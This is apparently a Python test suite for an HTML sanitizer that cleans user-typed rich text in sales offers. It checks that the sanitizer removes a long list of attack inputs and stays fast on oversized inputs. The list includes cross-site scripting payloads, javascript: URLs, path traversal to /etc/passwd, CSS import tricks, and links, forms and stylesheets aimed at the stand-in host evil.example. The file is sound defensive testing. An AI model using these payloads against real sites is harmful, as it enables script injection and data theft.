"""Texts that people have typed: what of them may be shown to others."""

import doctest
import time

import pytest
import tinyhtml5
from hypothesis import given, settings
from hypothesis import strategies as st

from sales_deals.tools.offer import rich_text
from sales_deals.tools.offer.rich_text import clean

HTML = "{http://www.w3.org/1999/xhtml}"
PIXEL = "data:image/png;base64,iVBORw0KGgo="
#: Ways to run a script, or to load something, that were used on others' pages.
ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=/web/content/7></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/web/image/7' onload=alert(1)>",
    "<img srcset='/web/static//etc/passwd 1x' src=/etc/passwd>",
    "<img src='/web/image/../../web/session/logout'>",
    "<img src='/web/image/%2e%2e/session/logout'>",
    "<img src='/web/image/..\\..\\logout'>",
    "<img src='file:///etc/passwd'><img src='//evil.example/a.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<svg><image href='/web/static//etc/passwd'/></svg>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='/web/static//etc/passwd' type='text/plain'>x</object>",
    "<embed src='/web/static//etc/passwd'>",
    "<video poster='/etc/passwd'><source src='/etc/passwd'></video>",
    "<link rel=attachment href='/web/static//etc/passwd'>",
    "<link rel=stylesheet href='//evil.example/a.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href='//evil.example/'>",
    "<a rel='attachment' href='/web/static//etc/passwd'>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='//evil.example'>x</a><a href='/\\evil.example'>x</a>",
    "<a href='https://a.example' ping='//evil.example' onclick=alert(1)>x</a>",
    "<form action='//evil.example'><input name=csrf_token><button formaction=javascript:x>x",
    "<p style='background: url(/web/static//etc/passwd)'>x</p>",
    "<p style='background-color: red url(/x)'>x</p>",
    "<p style='color: \\75rl(/x); width: expression(alert(1))'>x</p>",
    "<p style='content: attr(title); position: running(head)'>x</p>",
    "<p style='position: fixed; inset: 0; z-index: 9'>x</p>",
    "<p style='margin-top: -900px; margin-left: -.5e3px'>x</p>",
    "<p style=\"color: red; } @import '//evil.example'; p {\">x</p>",
    "<style>@import '/web/static//etc/passwd'; p {background: url(//evil.example)}</style>",
    "<body background='/web/static//etc/passwd' onload=alert(1)>x</body>",
    "<table background='/etc/passwd'><tr><td background='/etc/passwd'>x</td></tr></table>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='/web/static//etc/passwd'?>",
    "<p id=accept class='notice running_head' data-choose=v1 name=csrf_token>x</p>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "</div></article><script>alert(1)</script>",
    "{{7*7}}<t t-out='object.cost'/><p t-att-onclick='x'>",
]
pieces = st.sampled_from(
    [*ATTACKS, "<p>", "</p>", "<b", ">", "'", '"', "<!--", "-->", "<table><tr><td>", "\x00", "&lt;"]
)
texts = st.lists(pieces | st.text(max_size=9), max_size=9).map("".join)


def elements_of(text):
    """Read a text as browsers do, by another parser than the one that cleaned it."""
    body = tinyhtml5.parse(f"<!DOCTYPE html><body>{text}").find(f"{HTML}body")
    return [node for node in body.iter() if node is not body]


def check(text):
    """Check that nothing in a text runs, loads anything or stands out of it."""
    for node in elements_of(text):
        assert isinstance(node.tag, str), "a comment"
        tag = node.tag.removeprefix(HTML)
        assert tag in rich_text.TAGS
        allowed = {*rich_text.ATTRIBUTES, *rich_text.TAGS[tag], "rel"}
        assert set(node.attrib) <= allowed
        for value in (node.get("href", ""), node.get("src", "")):
            assert not value or value.lower().startswith(
                ("https://", "http://", "mailto:", "tel:", "/", "data:image/")
            )
            assert not value.startswith(("//", "/\\")) and ".." not in value
        assert node.get("rel") in (None, "noopener noreferrer")
        assert not set("\\@{}<>'\"") & set(node.get("style", ""))
        assert "url" not in node.get("style", "")


def test_examples_in_the_docstrings():
    assert doctest.testmod(rich_text).failed == 0


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_is_left(attack):
    for text in (attack, f"<p>Dear <b>{attack}</b></p>", attack.upper(), f"<p>{attack}"):
        check(clean(text))


@given(texts)
@settings(max_examples=500, deadline=None)
def test_no_mixture_of_attacks_is_left_and_cleaning_again_changes_nothing(text):
    cleaned = clean(text)
    check(cleaned)
    check(clean(cleaned))


@pytest.mark.parametrize(
    "text",
    [
        "<p>Dear Ms Clarke,<br>thank you for <b>your</b> <i>visit</i>.</p>",
        '<p style="text-align: center; color: rgb(31, 95, 139)">Northlight</p>',
        '<p style="font-size: 18px; margin-left: 4.5em; background-color: #ffd400">x</p>',
        "<ul><li>one</li><li>two</li></ul>",
        '<ol start="3" type="a"><li value="7">one</li></ol>',
        '<table border="1" width="100%"><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        '<h2 dir="rtl">پیشنهاد قیمت</h2>',
        f'<img src="{PIXEL}" alt="Logo" width="120">',
        '<img src="/web/image/7-ab12/logo.png?access_token=x" alt="Logo">',
        '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">terms</a>',
        '<a href="/terms" target="_blank" rel="noopener noreferrer">terms</a>',
        '<a href="mailto:anna@example.com" rel="noopener noreferrer">mail</a>',
        "5 &lt; 6 &amp;amp; 7",
        "",
    ],
)
def test_what_people_write_stays(text):
    assert clean(text) == text


def test_text_of_what_is_left_out_stays_and_code_does_not():
    assert clean("<section><p>Kept</p></section>") == "<p>Kept</p>"
    assert clean("<button>Kept</button><style>gone</style><title>gone</title>") == "Kept"
    assert clean("  \n") == ""


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 100_000,
        "<b><i>" * 50_000 + "x",
        "<table><tr><td colspan=999999999 rowspan=999999999>" * 9,
        "<p style='" + "color:rgb(" * 50_000 + "'>",
        "<p style='" + "a" * 500_000 + "'>",
        "<" * 500_000,
        "&" * 500_000,
        "<!--" * 100_000,
        "<a href='" + "a" * 500_000 + "'>",
        f"<img src='data:image/png;base64,{'A' * 5_000_000}'>",
    ],
    ids=range(10),
)
def test_hostile_texts_take_no_time(text):
    begin = time.perf_counter()
    cleaned = clean(text)
    assert time.perf_counter() - begin < 2
    assert "9999" not in cleaned
    assert cleaned.count("<b>") + cleaned.count("<i>") <= rich_text.MAX_DEPTH
